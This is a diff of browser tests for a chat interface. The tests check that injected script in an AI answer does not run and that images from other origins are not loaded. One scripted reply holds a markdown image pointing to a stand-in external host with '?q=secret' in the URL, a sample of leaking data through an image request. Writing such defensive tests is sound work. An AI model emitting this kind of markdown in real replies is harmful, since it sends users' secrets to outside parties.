@@ -36,7 +36,6 @@ def test_no_text_of_an_answer_is_lost_and_none_of_it_runs(page: Page, chat: Scri
     assert page.evaluate("window.injected") is None
 
 
-@pytest.mark.page_errors(r"^console error: Loading the image 'http://127\.0\.0\.1:.*/pixel\.png.*img-src")
 def test_a_picture_from_elsewhere_is_not_fetched(page: Page, chat: ScriptedChat) -> None:
     asked: list[str] = []
     page.on("requestfinished", lambda request: asked.append(request.url))
@@ -44,7 +43,8 @@ def test_a_picture_from_elsewhere_is_not_fetched(page: Page, chat: ScriptedChat)
         chat.writer.reply = stream(f"Look: ![x]({elsewhere}/pixel.png?q=secret) [1].")
         ask(page, QUESTION)
         wait_until_done(page)
-        expect(side(page, "A").locator("img")).to_have_count(1)
+        expect(side(page, "A").locator("img")).to_have_count(0)
+        expect(side(page, "A").get_by_role("link", name="x", exact=True)).to_be_visible()
     assert not [url for url in asked if not url.startswith(chat.url)]
 
 
